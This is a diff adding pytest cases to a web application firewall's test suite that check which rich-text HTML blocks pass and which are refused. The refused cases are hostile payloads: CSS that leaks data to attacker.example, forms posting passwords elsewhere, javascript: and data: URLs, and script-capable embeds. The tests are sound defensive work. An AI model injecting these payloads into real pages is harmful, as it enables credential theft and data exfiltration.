@@ -180,3 +180,44 @@ def test_an_ldap_server_setting_passes(guard: WAFGuard, server: str) -> None:
 def test_ldap_urls_that_fetch_are_refused(guard: WAFGuard, value: str) -> None:
     body = json.dumps({"server": value})
     assert blocked(guard, [("content-type", "application/json")], "/settings/directory", body)
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<style>.promo{color:#c00;font-weight:700}</style><p class="promo">Sale ends Sunday!</p>',
+        '<style type="text/css" media="screen and (min-width: 600px)">h2 { margin: 0 }</style>',
+        '<embed src="https://maps.example.com/embed?pb=!1m18!1m12" width="600" height="450">',
+        '<object data="https://cdn.example.com/menu.pdf" type="application/pdf" width="100%" height="500"></object>',
+        '<form action="/newsletter" method="post"><input type="email" name="email" placeholder="you@example.com">'
+        '<button type="submit">Subscribe</button></form>',
+    ],
+)
+def test_rich_text_elements_that_run_nothing_pass(guard: WAFGuard, html: str) -> None:
+    """A page builder's blocks (sixth unseen set): CSS rules, an https embed, a form posting to this site."""
+    body = json.dumps({"blocks_html": html})
+    assert not blocked(guard, [("content-type", "application/json")], "/pages/42", body)
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<style>",  # a bare tag: a probe for reflection
+        "<form>",
+        "<style>body{background:url(https://attacker.example/?c=1)}</style>",  # CSS that fetches
+        "<style>@import 'https://attacker.example/x.css';</style>",
+        "<style>input[value^=a]{background-image:u\\72l(//attacker.example/a)}</style>",  # an escape
+        '<form action="https://attacker.example/login" method="post"><input name="password"></form>',  # elsewhere
+        '<form action="//attacker.example/login">',
+        '<form action="javascript:alert(1)">',
+        '<form action="/search" onsubmit="steal()">',
+        '<object data="/uploads/page.html" type="application/pdf"></object>',  # this site's origin, any type
+        '<object data="javascript:alert(1)"></object>',
+        '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
+        '<embed src="https://cdn.example.com/x.svg" type="image/svg+xml">',
+        '<object data="https://cdn.example.com/a.swf" allowscriptaccess="always"></object>',
+    ],
+)
+def test_rich_text_elements_that_fetch_run_or_post_elsewhere_are_refused(guard: WAFGuard, html: str) -> None:
+    body = json.dumps({"blocks_html": html})
+    assert blocked(guard, [("content-type", "application/json")], "/pages/42", body)
